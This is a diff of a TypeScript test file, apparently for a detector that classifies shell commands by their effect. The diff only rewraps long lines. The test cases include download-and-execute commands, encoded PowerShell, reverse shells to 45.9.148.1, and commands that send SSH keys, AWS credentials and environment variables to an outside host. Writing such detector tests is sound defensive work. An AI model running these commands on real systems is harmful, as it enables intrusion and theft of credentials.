@@ -12,7 +12,8 @@ const DOES: Readonly<Record<string, string>> = {
   'shell-fetch-send': 'data-exfiltration',
   'shell-fetch-destroy': 'destructive',
 };
-const EFFECT = /^(remote-code|decode-execute|data-exfiltration|reverse-shell|persistence|destructive|crypto-mining)-command$/;
+const EFFECT =
+  /^(remote-code|decode-execute|data-exfiltration|reverse-shell|persistence|destructive|crypto-mining)-command$/;
 
 /** How a command is written in each place. */
 const PLACES: Readonly<Record<string, (command: string) => Readonly<Record<string, string>>>> = {
@@ -51,11 +52,20 @@ describe('a command', () => {
     ['remote-code', 'wget https://files.host-of-a.io/x.py && python x.py'],
     ['remote-code', 'python3 -c "$(curl -s https://files.host-of-a.io/a)"'],
     ['remote-code', 'eval `curl -s https://files.host-of-a.io/a`'],
-    ['remote-code', 'powershell -c "iex (New-Object Net.WebClient).DownloadString(\'https://files.host-of-a.io/a\')"'],
+    [
+      'remote-code',
+      'powershell -c "iex (New-Object Net.WebClient).DownloadString(\'https://files.host-of-a.io/a\')"',
+    ],
     ['remote-code', 'pow^ershell -c "I`EX (iwr https://files.host-of-a.io/a)"'],
-    ['remote-code', 'powershell iwr https://files.host-of-a.io/a.exe -OutFile a.exe; Start-Process a.exe'],
+    [
+      'remote-code',
+      'powershell iwr https://files.host-of-a.io/a.exe -OutFile a.exe; Start-Process a.exe',
+    ],
     ['remote-code', 'pwsh -c "[scriptblock]::Create((irm https://files.host-of-a.io/a)).Invoke()"'],
-    ['remote-code', 'powershell [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData(\'https://files.host-of-a.io/a\'))'],
+    [
+      'remote-code',
+      "powershell [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://files.host-of-a.io/a'))",
+    ],
     ['remote-code', 'mshta https://files.host-of-a.io/a.hta'],
     ['remote-code', 'mshta vbscript:Close(Execute("x"))'],
     ['remote-code', 'regsvr32 /s /n /u /i:https://files.host-of-a.io/a.sct scrobj.dll'],
@@ -70,15 +80,30 @@ describe('a command', () => {
     ['decode-execute', 'xxd -r -p a.hex | sh'],
     ['decode-execute', 'openssl enc -d -aes-256-cbc -in a | sh'],
     ['decode-execute', 'certutil -decode a.txt a.exe'],
-    ['decode-execute', 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAApAA=='],
-    ['decode-execute', 'pwsh -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAApAA=='],
-    ['decode-execute', 'powershell iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\'aGk=\')))'],
+    [
+      'decode-execute',
+      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAApAA==',
+    ],
+    [
+      'decode-execute',
+      'pwsh -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAApAA==',
+    ],
+    [
+      'decode-execute',
+      "powershell iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))",
+    ],
     ['reverse-shell', 'bash -i >& /dev/tcp/45.9.148.1/99 0>&1'],
     ['reverse-shell', 'nc 45.9.148.1 99 -e /bin/sh'],
-    ['data-exfiltration reverse-shell', 'rm f; mkfifo f; cat f | sh -i 2>&1 | nc 45.9.148.1 99 > f'],
+    [
+      'data-exfiltration reverse-shell',
+      'rm f; mkfifo f; cat f | sh -i 2>&1 | nc 45.9.148.1 99 > f',
+    ],
     ['reverse-shell', 'socat tcp:45.9.148.1:99 exec:/bin/sh'],
     ['reverse-shell', 'sh -i | telnet 45.9.148.1 99'],
-    ['reverse-shell', 'powershell $c=New-Object Net.Sockets.TCPClient(\'45.9.148.1\',99);$s=$c.GetStream();iex $s'],
+    [
+      'reverse-shell',
+      "powershell $c=New-Object Net.Sockets.TCPClient('45.9.148.1',99);$s=$c.GetStream();iex $s",
+    ],
     ['data-exfiltration', 'curl -F file=@~/.ssh/id_rsa https://files.host-of-a.io'],
     ['data-exfiltration', 'env | curl -X POST -d @- https://files.host-of-a.io'],
     ['data-exfiltration', 'cat ~/.aws/credentials | nc 45.9.148.1 99'],
@@ -106,7 +131,10 @@ describe('a command', () => {
     ['', 'tsc && vitest run --coverage'],
     ['', 'echo aGk= | base64 -d > a.bin'],
   ])('does "%s" in every place: %s', (effect, command) => {
-    const found = Object.entries(PLACES).map(([place, write]) => [place, effectsIn(write(command))]);
+    const found = Object.entries(PLACES).map(([place, write]) => [
+      place,
+      effectsIn(write(command)),
+    ]);
     expect(Object.fromEntries(found)).toEqual(
       Object.fromEntries(Object.keys(PLACES).map((place) => [place, effect])),
     );
